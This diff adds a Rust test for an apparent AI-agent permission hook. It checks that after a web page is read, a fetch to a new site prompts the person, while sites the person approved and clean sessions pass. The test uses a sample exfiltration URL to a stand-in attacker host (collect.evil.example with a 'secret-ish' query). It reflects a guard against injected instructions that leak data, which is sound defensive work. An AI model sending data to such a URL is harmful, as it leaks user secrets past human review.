@@ -805,3 +805,58 @@ fn grep_globs_reaching_guarded_files_and_unbounded_glob_patterns_ask() {
         None
     );
 }
+
+// proves: BEYOND-7 (issue 18: in a marked session a fetch to a site not yet
+// visited asks; the page's own site and one a person let through do not)
+#[test]
+fn after_a_page_a_fetch_to_a_new_site_asks() {
+    let world = World::with(r#""hook": {"answer_allow": false}"#);
+    assert_eq!(
+        world.pre("w", "WebFetch", json!({"url": PAGE, "prompt": "x"})),
+        None
+    );
+    for url in [
+        "https://docs.example.org/other",
+        "https://api.example.org/v1",
+    ] {
+        assert_eq!(
+            world.pre("w", "WebFetch", json!({"url": url, "prompt": "x"})),
+            None,
+            "{url}"
+        );
+    }
+    let evil = "https://collect.evil.example/?d=secret-ish";
+    for (tool, input) in [
+        ("WebFetch", json!({"url": evil, "prompt": "x"})),
+        ("mcp__fetch__fetch", json!({"url": evil})),
+    ] {
+        let answer = world.pre("w", tool, input);
+        assert_eq!(decision(&answer), Some("ask"), "{tool}: {answer:?}");
+        let why = reason(&answer);
+        assert!(
+            why.contains("BEYOND-7") && why.contains("evil.example"),
+            "{why}"
+        );
+    }
+    // The person said yes: PostToolUse records the site, the next fetch
+    // there goes on.
+    world.event(
+        "w",
+        "PostToolUse",
+        "WebFetch",
+        json!({"url": evil, "prompt": "x"}),
+    );
+    assert_eq!(
+        world.pre(
+            "w",
+            "WebFetch",
+            json!({"url": "https://evil.example/2", "prompt": "x"})
+        ),
+        None
+    );
+    // A clean session fetches anywhere.
+    assert_eq!(
+        world.pre("w2", "WebFetch", json!({"url": evil, "prompt": "x"})),
+        None
+    );
+}
